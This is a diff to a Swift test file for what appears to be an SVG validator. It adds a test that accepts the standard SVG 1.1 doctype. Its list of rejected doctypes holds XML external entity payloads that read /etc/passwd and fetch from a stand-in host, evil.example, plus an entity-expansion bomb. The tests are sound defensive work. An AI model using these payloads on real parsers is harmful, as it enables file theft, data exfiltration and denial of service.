@@ -79,7 +79,6 @@ import Testing
   }
 
   static let types = [
-    "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">",
     "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
     "<!DOCTYPE svg [<!ENTITY % p SYSTEM \"http://evil.example\"> %p;]>",
     "<!DOCTYPE svg [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;\">]>", "<!doctype svg>",
@@ -88,6 +87,14 @@ import Testing
   @Test(arguments: types) func hasADocumentType(type: String) {
     let error = judged("<?xml version=\"1.0\"?>\n<!-- <svg> -->\n  \(type)" + svg("<text>&a;&x;</text>")).error
     #expect(error?.reason == .documentType && error?.place == PictureError.Place(line: 3, column: 3))
+  }
+
+  /// As older drawing programs write it. It is not read, so that nothing is asked of another host.
+  @Test func hasADocumentTypeThatDeclaresNothing() {
+    let type = "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">"
+    #expect(judged("<?xml version=\"1.0\"?>\n\(type)\n" + svg("<g/>")).error == nil)
+    #expect(judged("\(type)\(type)" + svg("<g/>")).error?.reason == .documentType)
+    #expect(judged("\(type)" + svg("<text>&nbsp;</text>")).error != nil)
   }
 
   @Test func hasAStyleSheetInstruction() {
